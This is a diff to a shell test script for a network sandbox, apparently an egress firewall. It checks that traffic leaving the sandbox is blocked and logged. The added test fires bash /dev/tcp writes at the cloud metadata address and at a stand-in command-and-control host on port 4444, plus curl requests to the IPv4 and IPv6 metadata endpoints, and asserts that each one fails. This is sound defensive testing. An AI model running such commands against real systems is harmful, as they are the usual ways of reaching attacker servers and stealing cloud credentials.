@@ -105,6 +105,20 @@ if missing or other or not icmp:
 print("   %d denied packets logged, all with prefix firebreak:eg1" % len(rows))
 PY
 ok "escaped: each denied destination (TCP, UDP, ICMP, IPv4 and IPv6) is on NFLOG with the sandbox's prefix"
+
+# The attacker's usual tools, escaped the same way: bash's /dev/tcp and curl.
+bash "$WORLDSH" capture-start "$WORLD" tools || fail "capture-start"
+sleep 0.3
+nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/169.254.169.254/80' 2>/dev/null \
+	&& fail "bash /dev/tcp reached the metadata service"
+nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/203.0.113.66/4444' 2>/dev/null \
+	&& fail "bash /dev/tcp reached the C2"
+nsenter --net="/proc/$init/ns/net" curl -s -m 3 http://169.254.169.254/latest/meta-data/ >/dev/null \
+	&& fail "curl reached the metadata service"
+nsenter --net="/proc/$init/ns/net" curl -s -m 3 -g 'http://[fd00:ec2::254]/latest/meta-data/' >/dev/null \
+	&& fail "curl reached the IPv6 metadata service"
+sleep 0.3
+assert_eq "$(bash "$WORLDSH" capture-stop "$WORLD" tools)" "0" "bash /dev/tcp and curl got nothing into the world"
 bash "$WORLDSH" contacts "$WORLD" dns >"$T/dns-contacts.log"
 grep -qi "exfil" "$T/dns-contacts.log" && fail "an exfil query reached the authority: $(grep -i exfil "$T/dns-contacts.log" | head -2)"
 ok "no exfil.test query (plain or encoded) reached the DNS authority"
